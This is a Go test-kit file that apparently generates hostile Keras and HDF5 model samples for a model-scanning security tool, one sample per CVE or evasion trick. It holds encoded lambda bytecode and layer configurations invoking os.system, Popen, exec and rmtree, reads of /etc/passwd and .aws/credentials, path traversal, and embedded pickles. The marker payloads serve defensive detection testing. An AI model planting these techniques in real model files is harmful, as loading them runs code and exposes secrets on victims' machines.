package hostile

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"

	"github.com/picketsec/picket/internal/testkit/rawzip"
)

// networkSamples are models of neural networks by their layers: HDF5 and Keras.
func networkSamples() []Sample {
	return append(hdf5Samples(), kerasSamples()...)
}

// The bytecode of lambdas as Python 3.11 writes it, in base64.
const (
	lambdaSystem = "4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3P6GmVjaG8gcGlja2V0LWhvc3RpbGUtc2FtcGxlKQLaCl9faW1wb3J0X1/aBnN5c3RlbakB2gF4cwEAAAAg+gc8c3RkaW4++gg8bGFtYmRhPnIJAAAABAAAAHMiAAAAgACVaqAU0RYm1BYm1xYt0hYt0C5K0RZL1BZL0BZQyHGAAPMAAAAA"
	lambdaExec   = "4wEAAAAAAAAAAAAAAAMAAAADAAAA8yQAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAABwAXwAUwApAk76MWltcG9ydCBvcwpvcy5zeXN0ZW0oJ2VjaG8gcGlja2V0LWhvc3RpbGUtc2FtcGxlJykpAdoEZXhlY6kB2gF4cwEAAAAg+gc8c3RkaW4++gg8bGFtYmRhPnIHAAAABQAAAHMUAAAAgACVFNAWStERS9QRS9ARUMhxgADzAAAAAA=="
	lambdaWalk   = "4wEAAAAAAAAAAAAAAAQAAAADAAAA83gAAACXAAIAZAGEAGQCagAAAAAAAAAAAGoBAAAAAAAAAACgAgAAAAAAAAAAAAAAAAAAAAAAAAAApgAAAKsAAAAAAAAAAABEAKYAAACrAAAAAAAAAAAAZAMZAAAAAAAAAAAAZARkBWcCpgEAAKsBAAAAAAAAAABvAXwAUwApBk5jAQAAAAAAAAAAAAAABAAAABMAAADzKAAAAJcAZwB8AF0PfQF8AWoAAAAAAAAAAABkAGsCAAAAAK8NfAGRAowQUwApAdoFUG9wZW4pAdoIX19uYW1lX18pAtoCLjDaAWNzAgAAACAg+gc8c3RkaW4++go8bGlzdGNvbXA+ehw8bGFtYmRhPi48bG9jYWxzPi48bGlzdGNvbXA+BgAAAHMlAAAAgADQEVvQEVvQEVuYAcBxxHrQU1rSR1rQR1qQIdBHWtBHWtBHWvMAAAAAqQDpAAAAANoEZWNob/oVcGlja2V0LWhvc3RpbGUtc2FtcGxlKQPaCV9fY2xhc3NfX9oIX19iYXNlX1/aDl9fc3ViY2xhc3Nlc19fqQHaAXhzAQAAACByBwAAAPoIPGxhbWJkYT5yEwAAAAYAAABzUQAAAIAA0BFe0BFb0BFbmFKcXNQdMtcdQdIdQdEdQ9QdQ9ARW9ERW9QRW9BcXdQRXtBgZtBnftBff/EAABJBAvQAABJBAvAAABJHAvAAAEYCRwKAAHIJAAAA"
	lambdaOpen   = "4wEAAAAAAAAAAAAAAAQAAAADAAAA80wAAACXAHQBAAAAAAAAAAAAAGQBZAKmAgAAqwIAAAAAAAAAAKABAAAAAAAAAAAAAAAAAAAAAAAAAABkA6YBAACrAQAAAAAAAAAAbwF8AFMAKQRO+hovdG1wL3BpY2tldC1ob3N0aWxlLXNhbXBsZdoBd/oVcGlja2V0LWhvc3RpbGUtc2FtcGxlKQLaBG9wZW7aBXdyaXRlqQHaAXhzAQAAACD6BzxzdGRpbj76CDxsYW1iZGE+cgoAAAAHAAAAcyYAAACAAJUU0BYysDPRETfUETfXET3SET3QPlXREVbUEVbQEVzQW1yAAPMAAAAA"
	lambdaTensor = "4wEAAAAAAAAAAAAAAAUAAAADAAAA80oAAACXAHQAAAAAAAAAAAAAAKABAAAAAAAAAAAAAAAAAAAAAAAAAAB0BAAAAAAAAAAAAABkAWcBZwCmAwAAqwMAAAAAAAAAAHABfABTACkCTvoVcGlja2V0LWhvc3RpbGUtc2FtcGxlKQPaAnRm2gtweV9mdW5jdGlvbtoFcHJpbnSpAdoBeHMBAAAAIPoHPHN0ZGluPvoIPGxhbWJkYT5yCQAAAAgAAABzHwAAAIAAjXKPfop+nWXQJj3QJT7AAtEPQ9QPQ9APSMBxgADzAAAAAA=="
	lambdaMath   = "4wEAAAAAAAAAAAAAAAIAAAADAAAA8xIAAACXAHwAZAF6BQAAZAJ6AAAAUwApA07pAgAAAOkBAAAAqQCpAdoBeHMBAAAAIPoHPHN0ZGluPvoIPGxhbWJkYT5yCAAAAAkAAABzDgAAAIAAkBGQMZETkFGRFYAA8wAAAAA="
)

// object is an object of a configuration of Keras 3. Registered is JSON.
func object(module, class, registered, config string) string {
	return fmt.Sprintf(`{"module":%q,"class_name":%q,"config":%s,"registered_name":%s}`, module, class, config, registered)
}

// layer is a layer of Keras 3; old is one of Keras 2.
func layer(class, config string) string { return object("keras.layers", class, "null", config) }
func old(class, config string) string {
	return fmt.Sprintf(`{"class_name":%q,"config":%s}`, class, config)
}

// model is a model with one more layer than an honest one.
func model(extra string) string {
	return object("keras", "Sequential", "null", `{"name":"m","trainable":true,"layers":[`+
		layer("InputLayer", `{"batch_shape":[null,4],"dtype":"float32","name":"in"}`)+`,`+
		layer("Dense", `{"name":"d","units":3,"activation":"relu"}`)+`,`+extra+`]}`)
}

// oldModel is the same for Keras 2.
func oldModel(extra string) string {
	return old("Sequential", `{"name":"m","layers":[`+old("InputLayer", `{"batch_input_shape":[null,4],"dtype":"float32","name":"in"}`)+`,`+
		old("Dense", `{"name":"d","units":3,"activation":"relu"}`)+`,`+extra+`]}`)
}

// lambda is a Lambda layer of Keras 3 with bytecode; oldLambda is one of Keras 2.
func lambda(code string) string {
	return layer("Lambda", `{"name":"l","function":{"class_name":"__lambda__","config":{"code":"`+code+`","defaults":null,"closure":null}}}`)
}
func oldLambda(code string) string {
	return old("Lambda", `{"name":"l","function":["`+code+`",null,null],"function_type":"lambda","module":"__main__","arguments":{}}`)
}

// function is a function that a configuration names; called is a Lambda layer around it.
func function(module, name string) string {
	return object(module, "function", fmt.Sprintf("%q", name), fmt.Sprintf("%q", name))
}
func called(module, name, arguments string) string {
	return layer("Lambda", `{"name":"l","function":`+function(module, name)+`,"arguments":`+arguments+`}`)
}

// escaped writes bytes as the characters of a JSON text.
func escaped(b []byte) string {
	var text strings.Builder
	for _, c := range b {
		fmt.Fprintf(&text, `\u%04x`, c)
	}
	return text.String()
}

// wide writes text of plain characters in UTF-16.
func wide(text string) string {
	return strings.Join(strings.Split(text, ""), "\x00") + "\x00"
}

// kerasZip is an archive of Keras 3 with a configuration.
func kerasZip(config string, more ...rawzip.Entry) rawzip.Archive {
	return rawzip.Archive{Entries: append([]rawzip.Entry{
		{Name: "metadata.json", Data: []byte(`{"keras_version":"3.8.0","date_saved":"2026-01-01@00:00:00"}`)},
		{Name: "config.json", Data: []byte(config)},
		{Name: "model.weights.h5", Data: new(h5).keras()},
	}, more...)}
}

// kerasSamples are Keras models in their three forms.
func kerasSamples() []Sample {
	var all []Sample
	add := func(id, group, technique, extension string, content func() ([]byte, error)) {
		all = append(all, Sample{Name: "keras-" + id + extension, Group: "keras-" + group, Technique: technique, Loader: "keras", Build: content})
	}
	for _, c := range kerasLayers() {
		if strings.HasPrefix(c.layer, `{"class_name"`) { // of Keras 2
			add(c.id, c.group, c.technique, ".h5", build(legacy(oldModel(c.layer), "")))
			continue
		}
		add(c.id, c.group, c.technique, ".keras", kerasZip(model(c.layer)).Bytes)
	}
	for _, c := range kerasConfigs() {
		add(c.id, c.group, c.technique, ".keras", kerasZip(c.layer).Bytes)
	}
	document := oldModel(oldLambda(lambdaSystem))
	for _, c := range []struct{ id, how, content string }{
		{"document", "", document}, {"document-mark", ", behind a byte order mark", "\ufeff" + document},
		{"document-space", ", behind 70,000 spaces", strings.Repeat(" ", 70_000) + document},
		{"document-late", ", behind a member of 70,000 bytes", `{"comment":"` + strings.Repeat("x", 70_000) + `",` + document[1:]},
		{"document-wide", ", in UTF-16", "\xff\xfe" + strings.Join(strings.Split(document, ""), "\x00") + "\x00"},
	} {
		add(c.id, "lambda", "CVE-2024-3660: a Lambda layer in what to_json writes"+c.how, ".json", build([]byte(c.content)))
	}
	add("training-loss", "training", "CVE-2024-3660: a lambda in the training configuration of an HDF5 file", ".h5", build(legacy(oldModel(old("Flatten", "{}")),
		`{"loss":{"class_name":"__lambda__","config":{"code":"`+lambdaSystem+`"}},"metrics":["accuracy"],"optimizer_config":`+old("Adam", "{}")+`}`)))
	add("training-function", "training", "CVE-2025-1550: a function of the system as a metric in the training configuration", ".h5",
		build(legacy(oldModel(old("Flatten", "{}")), `{"loss":"mse","metrics":[`+function("os", "system")+`]}`)))
	return append(all, kerasArchives()...)
}

// kerasCase is one layer, or configuration, that attacks.
type kerasCase struct{ id, group, technique, layer string }

// kerasLayers are layers of otherwise honest models.
func kerasLayers() []kerasCase {
	garbage := base64.StdEncoding.EncodeToString([]byte("\xe3\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00" + strings.Repeat("\xff", 60)))
	plain, err := base64.StdEncoding.DecodeString(lambdaSystem)
	if err != nil {
		plain = nil
	}
	torch := base64.StdEncoding.EncodeToString(attackPickle())
	list := []kerasCase{
		{"lambda-v3", "lambda", "CVE-2024-3660: a Lambda layer that starts a program", lambda(lambdaSystem)},
		{"lambda-v3-exec", "lambda", "a Lambda layer that executes source", lambda(lambdaExec)},
		{"lambda-v3-walk", "lambda", "a Lambda layer that walks from a class to Popen", lambda(lambdaWalk)},
		{"lambda-v3-open", "lambda", "a Lambda layer that writes a file", lambda(lambdaOpen)},
		{"lambda-v3-tensor", "lambda", "a Lambda layer that calls Python from a graph", lambda(lambdaTensor)},
		{"lambda-v3-math", "lambda", "a Lambda layer whose bytecode names nothing", lambda(lambdaMath)},
		{"lambda-v3-garbage", "lambda", "a Lambda layer whose bytecode cannot be decoded", lambda(garbage)},
		{"lambda-v3-noise", "lambda", "a Lambda layer whose base64 holds characters that Python passes over", lambda(strings.Join(strings.SplitAfter(lambdaSystem, "A"), "!-"))},
		{"lambda-v3-raw", "lambda", "a Lambda layer whose bytecode is text, not base64", lambda(escaped(plain))},
		{"lambda-v2", "lambda", "CVE-2025-9905: a Lambda layer in an HDF5 file, where safe mode does not hold", oldLambda(lambdaSystem)},
		{"lambda-v2-math", "lambda", "CVE-2025-9905: a Lambda layer in an HDF5 file whose bytecode names nothing", oldLambda(lambdaMath)},
		{"lambda-v2-shape", "lambda", "CVE-2024-3660: the output shape of a Lambda layer is bytecode", old("Lambda",
			`{"name":"l","function":"relu","function_type":"function","output_shape":["`+lambdaSystem+`",null,null],"output_shape_type":"lambda"}`)},
		{"lambda-v2-mask", "lambda", "CVE-2024-3660: the mask of a Lambda layer is bytecode", old("Lambda",
			`{"name":"l","function":"relu","function_type":"function","mask":["`+lambdaExec+`",null,null],"mask_type":"lambda"}`)},
		{"lambda-v2-tuple-noise", "lambda", "a Lambda layer of tf.keras whose tuple begins with base64 that holds characters which Python passes over", old("Lambda",
			`{"name":"l","function":{"class_name":"__tuple__","items":["!!`+lambdaSystem+`",null,null]},"function_type":"lambda"}`)},
		{"lambda-v2-tuple-garbage", "lambda", "a Lambda layer of tf.keras whose tuple begins with bytecode that cannot be decoded", old("Lambda",
			`{"name":"l","function":{"class_name":"__tuple__","items":["bm90IGEgY29kZSBvYmplY3Q=",null,null]},"function_type":"lambda"}`)},
		{"lambda-v2-plain", "lambda", "a Lambda layer whose bytecode stands where the name of a function would", old("Lambda",
			`{"name":"l","function":"!!`+lambdaSystem+`","function_type":"lambda"}`)},
		{"lambda-v2-named", "foreign", "a Lambda layer of Keras 2 that takes its function from a module of the system", old("Lambda",
			`{"name":"l","function":"system","function_type":"function","module":"os","arguments":{"command":"echo `+Marker+`"}}`)},
		{"lambda-nested", "hidden", "modelscan #343: a Lambda layer in a model in a model", layer("Sequential", `{"layers":[`+layer("Functional", `{"layers":[`+lambda(lambdaSystem)+`]}`)+`]}`)},
		{"lambda-wrapped", "hidden", "a Lambda layer in TimeDistributed", layer("TimeDistributed", `{"layer":`+lambda(lambdaSystem)+`}`)},
		{"lambda-backward", "hidden", "a Lambda layer as the backward layer of Bidirectional", layer("Bidirectional",
			`{"layer":`+layer("LSTM", `{"units":2}`)+`,"backward_layer":`+lambda(lambdaSystem)+`}`)},
		{"lambda-cell", "hidden", "a lambda as the cell of a recurrent layer", layer("RNN", `{"cell":{"class_name":"__lambda__","config":{"value":["`+lambdaSystem+`",null,null]}}}`)},
		{"lambda-activation", "hidden", "a lambda as the activation of a Dense layer", layer("Dense", `{"units":2,"activation":{"class_name":"__lambda__","config":{"value":["`+lambdaSystem+`",null,null]}}}`)},
		{"lambda-qualified", "hidden", "modelaudit #1020: the class is keras.layers.Lambda", old("keras.layers.Lambda", `{"function":["`+lambdaMath+`",null,null],"function_type":"lambda"}`)},
		{"lambda-registered", "hidden", "a Lambda layer under the registered name Custom>Lambda", object("builtins", "Custom>Lambda", `"Custom>Lambda"`, `{"function":{"class_name":"__lambda__","config":{"code":"`+lambdaSystem+`"}}}`)},
		{"lambda-in-extra", "hidden", "bytecode in a key that no layer of this version has", layer("Dense", `{"units":2,"extra":["`+lambdaSystem+`"]}`)},
		{"pickle-in-layer", "hidden", "a pickle as base64 in a layer", layer("Dense", `{"units":2,"state":"`+torch+`"}`)},
		{"evil-module", "impostor", "modelaudit #1425: a module that only looks like Keras's", object("keras.src.layers.evil", "Dense", "null", `{"units":2}`)},
		{"evil-suffix", "impostor", "a module that only begins like Keras's", object("keras.layers.core_evil.payload", "Run", "null", "{}")},
		{"conflict", "conflict", "the class is Dense and the registered name another", object("keras.layers", "Dense", `"evil>Layer"`, `{"units":2}`)},
		{"torch-module", "nested", "CVE-2025-49655: a pickle in a TorchModuleWrapper", layer("TorchModuleWrapper", `{"module":"`+torch+`"}`)},
		{"torch-module-bytes", "nested", "CVE-2025-49655: the pickle as an object of bytes", object("keras.src.utils.torch_utils", "TorchModuleWrapper", "null", `{"module":{"class_name":"__bytes__","config":{"value":"`+torch+`"}}}`)},
		{"tfsm", "nested", "CVE-2026-1462: a TFSMLayer that loads a model from the machine", layer("TFSMLayer", `{"filepath":"/srv/models/evil"}`)},
		{"tfsm-address", "nested", "CVE-2026-1462: a TFSMLayer that loads a model from an address", layer("TFSMLayer", `{"filepath":"http://127.0.0.1:9/evil"}`)},
		{"vocabulary", "file", "CVE-2025-12058: a vocabulary that is a file of the machine", layer("StringLookup", `{"vocabulary":"/etc/passwd"}`)},
		{"vocabulary-address", "file", "CVE-2025-12058: a vocabulary at an address", layer("TextVectorization", `{"vocabulary":"http://127.0.0.1:9/latest/meta-data"}`)},
		{"vocabulary-parent", "file", "CVE-2025-12058: a vocabulary above the model", layer("IntegerLookup", `{"vocabulary":"../../.aws/credentials"}`)},
		{"operation-write", "operation", "a layer of TensorFlow that writes a file", old("TFOpLambda", `{"name":"w","function":"io.write_file"}`)},
		{"operation-python", "operation", "a layer of TensorFlow that calls Python", old("TFOpLambda", `{"name":"w","function":"numpy_function"}`)},
		{"operation-node", "operation", "a layer that is the node of a graph that reads a file", old("TensorFlowOpLayer", `{"name":"r","node_def":"{\"name\":\"r\",\"op\":\"ReadFile\"}"}`)},
		{"fn-module", "foreign", "CVE-2025-1550: a function by its module and name in keys of their own", layer("Dense", `{"units":1,"fn_module":"os","fn_name":"system"}`)},
		{"typespec", "foreign", "an object of a type that is a class of the system", `{"module":"subprocess","class_name":"__typespec__","spec_name":"Popen","config":[["echo","` + Marker + `"]],"registered_name":null}`},
	}
	return append(append(list, kerasCalls()...),
		kerasCase{"class-popen", "foreign", "CVE-2025-1550: a class of the system as a layer", object("subprocess", "Popen", "null", `{"args":["echo","`+Marker+`"]}`)},
		kerasCase{"class-unittest", "foreign", "CVE-2025-1550: a class of the standard library as a layer", object("unittest.mock", "Mock", "null", `{}`)})
}

// kerasCalls are layers that call a function by its name.
func kerasCalls() []kerasCase {
	var list []kerasCase
	arguments := `{"command":"echo ` + Marker + `"}`
	for _, f := range []struct{ module, name, technique string }{
		{"os", "system", "CVE-2025-1550: a function of the system, which a layer calls"},
		{"posix", "system", "CVE-2025-1550: by the name of the module behind os"},
		{"subprocess", "run", "CVE-2025-1550: starts a program"},
		{"builtins", "eval", "CVE-2025-1550: a function of Python that evaluates source"},
		{"builtins", "exec", "CVE-2025-1550: a function of Python that executes source"},
		{"importlib", "import_module", "CVE-2025-1550: imports a module"},
		{"shutil", "rmtree", "CVE-2025-1550: removes files"},
		{"pickle", "loads", "CVE-2025-1550: loads a pickle"},
		{"numpy", "load", "CVE-2025-1550: loads a pickle through numpy"},
		{"torch.hub", "load", "CVE-2025-1550: loads a model with its code"},
		{"urllib.request", "urlretrieve", "CVE-2025-1550: fetches a file"},
		{"some_package.helpers", "run", "CVE-2025-1550: a function of a package that happens to be installed"},
		{"keras.utils", "get_file", "CVE-2025-8747: fetches a file and unpacks it"},
		{"keras.src.utils.file_utils", "get_file", "CVE-2025-8747: by the name of the module that has it"},
		{"keras.src.utils.file_utils", "extract_archive", "CVE-2025-12060: unpacks an archive over files"},
		{"keras.config", "enable_unsafe_deserialization", "CVE-2025-9906: turns safe mode off"},
		{"keras.src.saving.serialization_lib", "enable_unsafe_deserialization", "CVE-2025-9906: by the name of the module that has it"},
		{"keras.models", "load_model", "loads another model without safe mode"},
		{"keras.src.utils.python_utils", "func_load", "makes a function of bytecode"},
		{"keras.src.saving.serialization_lib", "deserialize_keras_object", "builds another object without safe mode"},
		{"keras.src.utils.model_visualization", "plot_model", "starts a program that draws"},
		{"keras.src.utils.io_utils", "ask_to_proceed_with_overwrite", "a function of Keras that is no part of models"},
		{"tensorflow", "numpy_function", "CVE-2025-1550: calls Python from TensorFlow"},
	} {
		list = append(list, kerasCase{"call-" + strings.ReplaceAll(f.module, ".", "-") + "-" + f.name, "foreign", f.technique, called(f.module, f.name, arguments)})
	}
	return list
}

// kerasConfigs are configurations whose attack is not in a layer.
func kerasConfigs() []kerasCase {
	honest := strings.TrimSuffix(model(layer("Flatten", "{}")), "}")
	compile := func(config string) string { return honest + `,"compile_config":` + config + `}` }
	return []kerasCase{
		{"compile-loss", "training", "CVE-2025-1550: the loss is a function of the system", compile(`{"optimizer":"adam","loss":` + function("os", "system") + `}`)},
		{"compile-metric", "training", "a metric is a lambda", compile(`{"loss":"mse","metrics":[{"class_name":"__lambda__","config":{"value":["` + lambdaSystem + `",null,null]}}]}`)},
		{"compile-optimizer", "training", "CVE-2025-1550: the optimizer is a class of the system", compile(`{"loss":"mse","optimizer":` + object("subprocess", "Popen", "null", "{}") + `}`)},
		{"build-config", "training", "CVE-2025-8747: the configuration for building names a function that fetches", honest + `,"build_config":{"input_shape":` + function("keras.utils", "get_file") + `}}`},
		{"root-class", "foreign", "CVE-2025-1550: the model itself is a class of the system", object("subprocess", "Popen", "null", `{"args":["echo"]}`)},
		{"duplicate-class", "conflict", "the class stands twice: readers keep one or the other", `{"module":"keras.layers","class_name":"Lambda","class_name":"Dense","config":{"units":1},"registered_name":null}`},
		{"duplicate-config", "conflict", "the configuration stands twice", model(`{"module":"keras.layers","class_name":"Lambda","config":` + `{"function":` + function("os", "system") + `},"config":{"units":1},"registered_name":null}`)},
		{"escaped", "hidden", "the names are written in escapes", strings.NewReplacer("Lambda", `\u004cambda`, "class_name", `class\u005fname`).Replace(model(lambda(lambdaSystem)))},
		{"padded", "hidden", "the configuration begins after 100,000 spaces", strings.Repeat(" ", 100000) + model(lambda(lambdaSystem))},
		{"deep", "hidden", "a Lambda layer in 200 models in models", strings.Repeat(`{"module":"keras","class_name":"Sequential","registered_name":null,"config":{"layers":[`, 200) + lambda(lambdaSystem) + strings.Repeat(`]}}`, 200)},
		{"too-deep", "hidden", "5,000 models in models", strings.Repeat(`{"class_name":"Sequential","config":{"layers":[`, 5000)},
		{"typed-module", "foreign", "CVE-2025-1550: the module of a policy is one of the system", model(layer("Dense", `{"units":1,"dtype":`+object("os", "popen", "null", `{"cmd":"echo"}`)+`}`))},
	}
}

// kerasArchives are archives whose attack is in the archive.
func kerasArchives() []Sample {
	archive := func(id, technique string, content func() ([]byte, error)) Sample {
		return Sample{Name: "keras-archive-" + id + ".keras", Group: "keras-archive", Technique: technique, Loader: "keras", Build: content}
	}
	honest, attack := model(layer("Flatten", "{}")), model(lambda(lambdaSystem))
	with := func(weights []byte) func() ([]byte, error) {
		a := kerasZip(honest)
		a.Entries[2].Data = weights
		return a.Bytes
	}
	quoted, err := json.Marshal(honest)
	if err != nil {
		quoted = []byte(`""`)
	}
	return []Sample{
		archive("external-link", "CVE-2026-1669: the weights of the archive link to a file of the machine", with(new(h5).keras(h5external("1", "/etc/passwd", "/x")))),
		archive("external-storage", "CVE-2026-1669: the weights of the archive are stored in a file of the machine", func() ([]byte, error) {
			w := &h5{}
			return with(w.keras(h5hard("1", w.stored("/etc/passwd"))))()
		}),
		archive("shape-bomb", "GHSA-xfhx-r7ww-5995: a weight of 4 TB of which nothing is stored", func() ([]byte, error) {
			w := &h5{}
			return with(w.keras(h5hard("1", w.dataset(h5floats(), h5space(1<<20, 1<<20), contiguous(h5None, 0)))))()
		}),
		archive("weights-pickle", "a pickle under the name of the weights", with(attackPickle())),
		archive("two-configs", "two configurations of one name: readers take the last", kerasZip(attack, rawzip.Entry{Name: "config.json", Data: []byte(honest)}).Bytes),
		archive("local-name", "the name in front of the member is another", kerasZip(honest, rawzip.Entry{Name: "assets/x.json", LocalName: "config.json", Data: []byte(attack)}).Bytes),
		archive("asset-slip", "CVE-2025-12060: an asset that is unpacked above the folder", kerasZip(honest, rawzip.Entry{Name: "assets/../../.profile", Data: []byte("echo " + Marker)}).Bytes),
		archive("asset-link", "an asset that is a symbolic link", kerasZip(honest, rawzip.Entry{Name: "assets/x", Data: []byte("/etc"), External: 0o120777 << 16}).Bytes),
		archive("asset-pickle", "a pickle among the assets", kerasZip(honest, rawzip.Entry{Name: "assets/layers/vocabulary.pkl", Data: attackPickle()}).Bytes),
		archive("config-only", "an archive of nothing but a configuration, which is built before weights are looked for",
			rawzip.Archive{Entries: []rawzip.Entry{{Name: "config.json", Data: []byte(attack)}}}.Bytes),
		archive("config-utf16", "a configuration in UTF-16, which Python reads", kerasZip(wide(attack)).Bytes),
		archive("config-mark", "a configuration with a byte order mark", kerasZip("\xef\xbb\xbf"+attack).Bytes),
		archive("config-text", "a configuration that is not JSON", kerasZip("config = "+string(quoted)).Bytes),
	}
}
